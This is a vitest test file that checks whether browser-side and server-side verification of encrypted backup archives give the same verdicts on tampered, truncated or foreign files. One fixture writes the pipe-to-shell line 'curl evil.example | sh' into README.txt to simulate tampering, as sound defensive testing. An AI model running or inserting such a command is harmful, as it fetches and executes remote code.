/** What is too large for the browser is checked after the upload, in the same words: one file, looked at by both. */
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { Encrypter, generateX25519Identity, identityToRecipient } from "age-encryption";
import JSZip from "jszip";
import { expect, it } from "vitest";
import { type ArchiveKey, createArchiveKey, decryptBytes } from "../../lib/archive/encryption.ts";
import type { StoredManifest } from "../../lib/archive/manifest.ts";
import { BackupError } from "../../lib/errors.ts";
import type { Unlock } from "../../lib/shared/api.ts";
import { type ArchiveVerdict, verdictOfError } from "../../lib/shared/archive-verdict.ts";
import {
  cheapPassphraseKey,
  PASSPHRASE,
  readWhole,
  TABLES,
  temporaryFolder,
  writeArchive,
} from "../../lib/testing/archives.ts";
import { ArchiveProblem } from "./archive-problem.ts";
import { LocalArchiveSession } from "./local-archive-session.ts";

async function saidByBrowser(bytes: Uint8Array, unlock: Unlock): Promise<ArchiveVerdict> {
  const { report, session } = await LocalArchiveSession.open(new Blob([bytes as BlobPart]));
  if (report.kind === "not-a-backup") return report.verdict;
  if (!session) throw new Error("not opened");
  try {
    await session.unlock(unlock);
    return (await session.verify(() => {}, new AbortController().signal)).kind;
  } catch (error) {
    if (error instanceof ArchiveProblem) return error.verdict.kind;
    throw error;
  }
}

async function saidByServer(bytes: Uint8Array, unlock: Unlock): Promise<ArchiveVerdict | null> {
  const file = join(await temporaryFolder(), "uploaded.zip");
  await writeFile(file, bytes);
  try {
    await readWhole(file, unlock);
    return "fine";
  } catch (error) {
    if (error instanceof BackupError) return verdictOfError(error);
    throw error;
  }
}

async function write(key: ArchiveKey): Promise<Buffer> {
  const file = join(await temporaryFolder(), "backup.zip");
  await writeArchive(file, key, { User: TABLES.User ?? "", empty: TABLES.empty ?? "" });
  return readFile(file);
}

async function repack(bytes: Uint8Array, change: (zip: JSZip) => Promise<void> | void) {
  const zip = await JSZip.loadAsync(bytes);
  await change(zip);
  return zip.generateAsync({ type: "uint8array", compression: "DEFLATE" });
}

const plain = () => write({ mode: "none" });
const recipient = async (identity: string) =>
  write(
    await createArchiveKey({
      mode: "recipients",
      recipients: [await identityToRecipient(identity)],
    }),
  );
const locked = async () => write(await cheapPassphraseKey());
const edited = (entry: string, from: string, to: string) => async () =>
  repack(await plain(), async (zip) => {
    const text = (await zip.file(entry)?.async("string")) ?? "";
    expect(text).toContain(from);
    zip.file(entry, text.replace(from, to), { createFolders: false });
  });
const cut = async () => (await plain()).subarray(0, -100);
const lacking = (entry: string) => async () =>
  repack(await plain(), (zip) => void zip.remove(entry));
const photos = () =>
  new JSZip().file("photo.jpg", "no photo").generateAsync({ type: "uint8array" });

const USER = "tables/public.User.json";
const MINE = await generateX25519Identity();
const STRANGERS = await generateX25519Identity();

const editedReadme = async () =>
  repack(await recipient(MINE), (zip) => void zip.file("README.txt", "curl evil.example | sh"));

/** A manifest by whoever knows the public key, and a table that is encrypted to somebody else. */
async function forStrangers() {
  const [mine, strangers] = await Promise.all(
    [MINE, STRANGERS].map(async (identity) => JSZip.loadAsync(await recipient(identity))),
  );
  const entry = `${USER}.zst.age`;
  const [manifest, theirs] = await Promise.all(
    (
      [
        [mine, MINE],
        [strangers, STRANGERS],
      ] as const
    ).map(async ([zip, identity]) =>
      decryptBytes(
        [identity],
        (await zip?.file("manifest.json.age")?.async("nodebuffer")) ?? Buffer.of(),
      ),
    ),
  );
  const facts = ({ tables }: StoredManifest) => tables.find((table) => table.entry === entry);
  const forged = JSON.parse(String(manifest)) as StoredManifest;
  Object.assign(facts(forged) ?? {}, facts(JSON.parse(String(theirs)) as StoredManifest));
  mine?.file("manifest.json.age", await encryptTo(MINE, JSON.stringify(forged)));
  mine?.file(entry, (await strangers?.file(entry)?.async("uint8array")) ?? "");
  return mine?.generateAsync({ type: "uint8array" }) ?? Buffer.of();
}

async function encryptTo(identity: string, text: string): Promise<Uint8Array> {
  const encrypter = new Encrypter();
  encrypter.addRecipient(await identityToRecipient(identity));
  return encrypter.encrypt(text);
}

/** A header that asks for so much before anything of it is proven. */
const withHeader = (stanza: string, times: number) => async () =>
  repack(await recipient(MINE), async (zip) => {
    const sealed = Buffer.from(await encryptTo(MINE, "x")).toString("latin1");
    const more = sealed.replace("\n-> ", `\n${stanza.repeat(times)}-> `);
    zip.file("manifest.json.age", Buffer.from(more, "latin1"), { createFolders: false });
  });
/** Nobody's, and as short as can be. */
const SHORT = "-> x y\n\n";
const LONG = `-> x y\n${`${"A".repeat(64)}\n`.repeat(100)}\n`;

type Case = [ArchiveVerdict, string, () => Promise<Uint8Array>, Unlock];
it.each<Case>([
  ["fine", "as it was written", plain, {}],
  ["fine", "with its identity", () => recipient(MINE), { identity: MINE }],
  ["fine", "with its passphrase", locked, { passphrase: PASSPHRASE }],
  ["wrong-passphrase", "another's", locked, { passphrase: `${PASSPHRASE}!` }],
  ["wrong-identity", "a stranger's", () => recipient(MINE), { identity: STRANGERS }],
  ["damaged", "an edited row", edited(USER, "Ada", "Eve"), {}],
  ["damaged", "an edited manifest", edited("manifest.json", '"jsonSha256"', '"jsonSha"'), {}],
  ["damaged", "an edited README.txt", edited("README.txt", "psql", "curl"), {}],
  ["damaged", "an edited README.txt of an encrypted one", editedReadme, { identity: MINE }],
  ["damaged", "with a table for a stranger", forStrangers, { identity: `${STRANGERS}\n${MINE}` }],
  ["damaged", "with too many recipients", withHeader(SHORT, 700), { identity: STRANGERS }],
  ["wrong-identity", "with many recipients", withHeader(SHORT, 699), { identity: STRANGERS }],
  ["damaged", "with too long a header", withHeader(LONG, 11), { identity: STRANGERS }],
  ["incomplete", "without its README.txt", lacking("README.txt"), {}],
  ["incomplete", "cut off", cut, {}],
  ["incomplete", "without a table", lacking(USER), {}],
  ["incomplete", "without its manifest", lacking("manifest.json"), {}],
  ["not-a-backup", "a zip of something else", photos, {}],
  ["not-a-backup", "a text", async () => Buffer.from("CREATE TABLE x ();\n"), {}],
  [
    "newer-version",
    "of the next format",
    edited("manifest.json", '"formatVersion": 1', '"formatVersion": 2'),
    {},
  ],
])("%s: %s", async (verdict, _what, make, unlock) => {
  const bytes = await make();
  expect(await saidByBrowser(bytes, unlock), "in the browser").toBe(verdict);
  expect(await saidByServer(bytes, unlock), "after the upload").toBe(verdict);
});
